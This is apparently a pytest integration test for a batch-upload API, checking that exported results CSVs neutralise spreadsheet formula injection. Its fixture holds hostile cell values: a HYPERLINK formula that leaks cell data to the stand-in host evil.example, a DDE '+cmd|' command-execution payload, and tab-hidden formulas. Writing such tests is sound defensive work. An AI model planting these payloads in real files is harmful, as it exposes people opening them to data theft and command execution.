"""A batch whose file carries spreadsheet formulas exports a results CSV that is safe to
open: over real HTTP (uvicorn), with a real worker running the batch."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from api.csv_safety import FORMULA_CHARS
from api.serving import serving_api
from tests.support.batches import wait_finished
from tests.support.servers import API_KEY_HEADER

KEY = API_KEY_HEADER

HOSTILE_CSV = (
    "company_name,website,phone,city,state,contact_email\n"
    '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",hyper.example,,=1+1,TX,\n'
    "+cmd|' /C calc'!A0 Heating,calc.example,,-2+3,TX,\n"
    "@SUM(A1:A9) Electric,sum.example,(512) 555-0142,\"\t=1+2\",TX,\n"
    "-42 Plumbing,minus.example,,@Austin,TX,\n"
    "Formula Mail Co,,,Austin,TX,=cmd@f6.example\n"
    "Plain Air Inc,plain.example,,Austin,TX,dana@plain.example\n"
)


@pytest.fixture(scope="module")
def api_url(servers):
    with serving_api() as url:
        yield url


def test_a_results_csv_never_starts_a_cell_with_a_formula(api_url, worker):
    client = httpx.Client(base_url=api_url, headers=KEY, timeout=30)
    # Given an uploaded file whose names and cities are spreadsheet formulas
    response = client.post(
        "/api/batches",
        files={"file": ("hostile.csv", HOSTILE_CSV.encode(), "text/csv")},
        data={"dry_run": "true"},
    )
    assert response.status_code == 202, response.text
    accepted = response.json()
    # Then the row whose only contact is a formula email is rejected, saying why
    (rejection,) = accepted["rejections"]
    assert "=cmd@f6.example" in rejection["reason"]
    assert "formula" in rejection["reason"]
    wait_finished(client, accepted["batch_id"])

    # When its results are downloaded as CSV
    exported = client.get(f"/api/batches/{accepted['batch_id']}/results",
                          params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))

    # Then no cell, looked at past its leading whitespace, starts a formula
    assert len(rows) == 5
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("\t", "\r"), (column, cell)
            assert cell.lstrip()[:1] not in FORMULA_CHARS, (column, cell)
    # And the text is all still there, behind the quote a spreadsheet reads as "text"
    cities = {row["city"] for row in rows}
    # (intake trims cells, so the tab-hidden "\t=1+2" is stored as "=1+2")
    assert {"'=1+1", "'-2+3", "'=1+2", "'@Austin", "Austin"} <= cities
    names = {row["company_name"] for row in rows}
    assert "'+cmd|' /C calc'!A0 Heating" in names
    assert all(row["score"].isdigit() for row in rows)  # numbers are not prefixed
